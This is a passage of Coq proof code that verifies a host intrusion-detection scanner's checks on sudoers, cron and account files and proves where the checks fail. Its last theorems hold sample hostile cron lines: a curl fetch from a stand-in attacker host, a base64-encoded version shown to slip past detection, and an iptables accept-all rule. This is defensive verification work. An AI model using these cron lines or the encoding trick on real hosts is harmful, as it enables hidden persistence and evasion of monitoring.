  match List.find (λ e, e.1 =s? p) files with Some e => FOk (mkFileInfo false (slen e.2) 0 416 0) | None => FNotExist end.
#[export] Instance demo_dirs : DirReader := λ _, Err ErrNotExist.
#[export] Instance demo_walk : TreeWalker := λ _, [].
#[export] Instance demo_output : Commander := λ cmd,
  match cmd with
  | ["getent"; "passwd"] => Ok ("root:x:0:0:root:/root:/bin/bash" +:+ str nl)
  | _ => Err "exit status 1"
  end.
#[export] Instance demo_user : CurrentUser := Err "no user".

(** One key type is known. *)
Definition fingerprint (line : string) : option string :=
  if has_prefix line "ssh-ed25519 " then Some ("SHA256:" +:+ sha256_hex line) else None.

Definition pack : Pack := mkPack "1" [].

End DemoHost.

Section demo.
Import DemoHost.

Lemma fim_delta_iff_witness :
  let sc := mkFim collectSudoersTargets (λ snap, scanSudoers Default snap pack "1" 0) (always "sudoers_changed") in
  sc ∈ fim_scanners Default pack "1" 0 ∧
  (reported (fim_signal sc) "/etc/sudoers" (fim_scan sc EmptySnapshot) ↔ differs EmptySnapshot (fim_targets sc) "/etc/sudoers") ∧
  differs EmptySnapshot (fim_targets sc) "/etc/sudoers" ∧
  length (fim_scan sc EmptySnapshot) = 1%nat.
Proof.
  cbv zeta. assert (Hsc : mkFim collectSudoersTargets (λ snap, scanSudoers Default snap pack "1" 0) (always "sudoers_changed")
    ∈ fim_scanners Default pack "1" 0) by (unfold fim_scanners; set_solver).
  split_and!; [done| |split|].
  - by apply (fim_delta_iff Default pack "1" 0 _ EmptySnapshot "/etc/sudoers").
  - cbn [fim_targets]. assert (Hc : collectSudoersTargets = ["/etc/sudoers"]) by (vm_compute; reflexivity).
    rewrite Hc. by left.
  - eexists. split; [vm_compute; reflexivity|]. intros Hx. discriminate Hx.
  - vm_compute. reflexivity.
Defined.

(** The cron line of the host is new before a commit and known after it. *)
Example commit_cron_demo :
  length (scanCron Default EmptySnapshot pack "1" 0) = 1%nat ∧
  scanCron Default (commit_persistence fingerprint EmptySnapshot) pack "1" 0 = [].
Proof. split; vm_compute; reflexivity. Qed.

End demo.

(** * What the cron and account tests miss *)

(** A command that is hidden in base64 is decoded from the lower-cased line, so
    that it is not found; in clear it is. *)
Theorem base64_cron_evades :
  EvalCronLine ("* * * * * root /opt/x " +:+ Base64.encode "curl http://evil.test/a") = false ∧
  EvalCronLine "* * * * * root /opt/x curl http://evil.test/a" = true.
Proof. split; vm_compute; reflexivity. Qed.

(** The token with a capital letter is never found in a lower-cased line. *)
Theorem iptables_token_dead : EvalCronLine "* * * * * root iptables -I INPUT 1 -j ACCEPT" = false.
Proof. vm_compute. reflexivity. Qed.

(** User identifiers are compared as text: 998 counts as an ordinary user. *)
Theorem service_uid_lexicographic :
  service_shell "cache:x:998:998::/var/cache:/bin/bash" = None ∧
  service_shell "cache:x:100:998::/var/cache:/bin/bash" = Some "cache:/bin/bash".
Proof. split; vm_compute; reflexivity. Qed.
